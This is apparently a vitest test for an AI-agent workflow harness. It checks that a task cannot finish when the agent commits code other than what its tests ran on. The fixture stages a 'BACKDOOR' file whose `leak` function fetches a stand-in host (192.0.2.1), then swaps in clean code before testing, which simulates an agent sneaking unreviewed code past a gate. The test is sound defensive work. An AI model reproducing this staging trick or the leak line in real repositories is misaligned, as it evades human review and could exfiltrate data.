import { execFileSync } from "node:child_process";
import { expect, it } from "vitest";
import {
  CODE,
  HANDED,
  beginWalk,
  blockers,
  reasons,
  walkTo,
  type Walk,
} from "./workflow-walk-kit.ts";

const BACKDOOR = `${CODE}export const leak = () => fetch("http://192.0.2.1");\n`;

async function inComplete(walk: Walk): Promise<void> {
  await walk.review();
  await walk.move("COMPLETE", HANDED.review());
  await walk.decide("review_approved", "rita", "approved");
  const decision = await walk.move("COMPLETE", HANDED.review());
  expect(decision.effect, reasons(decision)).toBe("allow");
}

it("what an agent committed is what its tests ran on, or its task does not end (WF-88)", async () => {
  const walk = await beginWalk();
  const git = (...args: readonly string[]): string =>
    execFileSync("git", args, { cwd: walk.folder, encoding: "utf8" }).trim();
  const { task, agent, fence } = walk.held;
  const complete = async () =>
    walk.tasks.complete({
      task,
      agent,
      fence,
      artifacts: HANDED.done,
      host: { token: walk.token(), workspace: walk.folder },
    });
  await walkTo(walk, "IMPL");

  // Staged where staging is allowed, and not there any more when the tests run.
  expect((await walk.use("write_files", { path: "src/add.js", content: BACKDOOR })).effect).toBe(
    "allow",
  );
  expect((await walk.use("bash", { command: "git add --all" })).effect).toBe("allow");
  expect((await walk.use("write_files", { path: "src/add.js", content: CODE })).effect).toBe(
    "allow",
  );
  expect((await walk.observe()).head).toBe(git("rev-parse", "HEAD"));
  expect((await walk.move("REVIEW", HANDED.code)).effect).toBe("allow");
  await inComplete(walk);
  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe(
    "allow",
  );
  expect(git("show", "HEAD:src/add.js")).toContain("leak");
  const staged = await complete();
  expect(blockers(staged.decision), reasons(staged.decision)).toEqual(["gate_stale"]);
  expect(reasons(staged.decision)).toMatch(/src\/add\.js \(another content\)/);
  expect(walk.phase()).toBe("COMPLETE");

  // The commit of what was tested ends it.
  expect((await walk.use("bash", { command: "git add --all" })).effect).toBe("allow");
  expect((await walk.use("bash", { command: "git commit -m 'Add two numbers'" })).effect).toBe(
    "allow",
  );
  const ended = await complete();
  expect(ended.decision.effect, reasons(ended.decision)).toBe("allow");
  const [last] = (await walk.events("phase_entered")).slice(-1);
  expect(last?.details["commit"]).toMatchObject({ head: git("rev-parse", "HEAD") });
});
